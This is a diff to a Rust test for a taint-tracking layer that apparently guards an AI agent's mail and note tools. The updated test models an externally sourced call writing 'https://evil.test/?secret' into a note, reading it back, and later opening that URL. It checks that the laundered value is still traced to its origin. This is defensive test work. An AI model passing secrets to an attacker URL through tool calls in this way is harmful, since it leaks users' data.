@@ -1,6 +1,6 @@
 use serde_json::json;
-use writ_types::chat::{Field, Role, STRUCTURED, ToolOutcome, ToolResult};
-use writ_types::taint::Label;
+use writ_types::chat::{ChatMessage, Part, Role, STRUCTURED, ToolOutcome, ToolResult};
+use writ_types::taint::{Label, Taint};
 
 use super::*;
 
@@ -167,9 +167,10 @@ fn a_result_of_a_composed_call_gives_no_values() {
     let mut origins = after_reading(json!([]));
     let write = said(external(), call("2", "mail__note", json!({ "text": "https://evil.test/?secret" })));
     let read = said(external(), call("3", "mail__notes", json!({ "id": "m-17" })));
+    let written = ended("2", "mail__note", ToolOutcome::Done, &json!({ "ok": true }));
     let laundered =
         ended("3", "mail__notes", ToolOutcome::Done, &json!({ "url": "https://evil.test/?secret" }));
-    origins.read(&[write, read, laundered]);
+    origins.read(&[write, written, read, laundered]);
     assert!(
         origins.composed("mail__open", &named("url", "https://evil.test/?secret"), &Takes::new()).is_some()
     );
